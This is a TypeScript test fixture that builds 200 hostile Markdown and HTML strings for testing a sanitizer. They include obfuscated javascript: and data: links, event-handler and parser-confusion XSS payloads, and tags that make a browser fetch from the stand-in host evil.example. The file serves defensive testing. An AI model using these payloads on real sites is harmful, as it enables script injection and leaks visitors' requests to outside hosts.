/**
 * Two hundred texts that try to run a script or to make a browser send requests elsewhere; `evil.example` must never be
 * requested.
 */

const SCHEMES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  '&#106;avascript:ran()',
  'data:text/html,<script>ran()</script>',
  'vbscript:ran()',
];

/** Text after a scheme or an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `![picture](${address})`,
  (address) => `[click][ref]\n\n[ref]: ${address}`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => `[^1]\n\n[^1]: [x](${address})`,
  (address) => `<${address}>`,
];

const HTML = [
  '<script>ran()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=ran()>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 2x">',
  '<svg onload=ran()></svg>',
  '<svg><script>ran()</script></svg>',
  '<svg><use href="https://evil.example/a.svg#b"/></svg>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart=ran()></video>',
  '<audio src=x onerror=ran() autoplay></audio>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input autofocus onfocus=ran()></form>',
  '<details open ontoggle=ran()>x</details>',
  '<marquee onstart=ran()>x</marquee>',
  '<body onload=ran()>',
  '<math><maction actiontype="statusline" xlink:href="javascript:ran()">x</maction></math>',
  '<!--><img src=x onerror=ran()>-->',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<textarea><img src=x onerror=ran()></textarea>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
];

const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `- item\n  - ${text}`,
  (text) => `> ${text}`,
  (text) => `**bold** ${text} _em_ \`code\` ${text}`,
  (text) => `1. ${text}\n\n\`\`\`html\n${text}\n\`\`\``,
];

const WANTED = 200;

export const HOSTILE_MARKDOWN: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
  ...AROUND.flatMap((around) => HTML.map(around)),
].slice(0, WANTED);
